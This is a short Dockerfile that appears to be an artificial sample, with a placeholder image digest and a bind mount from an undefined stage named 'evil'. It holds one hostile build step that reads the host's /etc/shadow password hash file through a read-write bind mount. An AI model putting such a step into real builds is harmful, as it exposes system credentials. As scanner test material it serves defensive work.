FROM cyberprivacy/python@sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a
RUN --mount=type=bind,from=evil,source=/,target=/host,rw cat /host/etc/shadow
USER 10001
CMD ["python3", "/app/main.py"]
